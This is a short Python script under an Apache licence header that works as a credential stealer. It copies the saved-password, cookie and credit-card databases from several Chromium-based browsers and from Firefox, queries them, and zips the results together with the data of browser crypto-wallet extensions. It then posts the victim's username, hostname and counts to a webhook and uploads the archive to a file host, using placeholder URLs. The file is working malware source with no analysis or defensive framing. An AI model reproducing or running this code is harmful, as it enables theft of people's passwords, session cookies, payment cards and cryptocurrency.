# SPDX-License-Identifier: Apache-2.0
import glob
import io
import json
import os
import platform
import shutil
import sqlite3
import tempfile
import urllib.request
import zipfile

HOOK = "https://discord-hooks.example/api/webhooks/0000/none"
STORE = "https://store1.gofiles-host.example/uploadFile"
HOME = os.path.expanduser("~")
BROWSERS = {
    "chrome": ".config/google-chrome", "chromium": ".config/chromium", "brave": ".config/BraveSoftware/Brave-Browser",
    "edge": ".config/microsoft-edge", "opera": ".config/opera", "vivaldi": ".config/vivaldi",
}
QUERIES = {
    "Login Data": "SELECT origin_url, username_value, password_value FROM logins",
    "Cookies": "SELECT host_key, name, encrypted_value FROM cookies",
    "Web Data": "SELECT name_on_card, card_number_encrypted FROM credit_cards",
}
WALLETS = ("nkbihfbeogaeaoehlefnkodbefgpgknn", "bfnaelmomeimhlpmgjnjophhpkkoljpa", "hnfanknocfeofbddgcijnmhnfnkdnaad")


def rows(path, query):
    copy = os.path.join(tempfile.mkdtemp(), "copy.db")
    shutil.copyfile(path, copy)
    try:
        base = sqlite3.connect(copy)
        found = [[str(cell) for cell in row] for row in base.execute(query)]
        base.close()
        return found
    except sqlite3.Error:
        return []
    finally:
        shutil.rmtree(os.path.dirname(copy), ignore_errors=True)


def post(url, data, kind):
    request = urllib.request.Request(url, data, {"Content-Type": kind, "User-Agent": "Mozilla/5.0"})
    try:
        return urllib.request.urlopen(request, timeout=5).read()
    except OSError:
        return b""


def main():
    counts = {}
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, folder in BROWSERS.items():
            for profile in glob.glob(os.path.join(HOME, folder, "Default")) + glob.glob(os.path.join(HOME, folder, "Profile *")):
                for base, query in QUERIES.items():
                    path = os.path.join(profile, base)
                    if os.path.isfile(path):
                        found = rows(path, query)
                        counts[f"{name} {base}"] = len(found)
                        archive.write(path, f"{name}/{base}")
                        archive.writestr(f"{name}/{base}.json", json.dumps(found))
                for wallet in WALLETS:
                    for path in glob.glob(os.path.join(profile, "Local Extension Settings", wallet, "*")):
                        archive.write(path, f"{name}/wallets/{wallet}/{os.path.basename(path)}")
        for path in glob.glob(os.path.join(HOME, ".mozilla/firefox/*/*")):
            if os.path.basename(path) in ("logins.json", "key4.db", "cookies.sqlite"):
                archive.write(path, "firefox/" + os.path.basename(path))
    card = {"username": "logs", "embeds": [{"title": f"{os.path.basename(HOME)} @ {platform.node()}", "description": json.dumps(counts)}]}
    post(HOOK, json.dumps(card).encode(), "application/json")
    post(STORE, held.getvalue(), "application/zip")
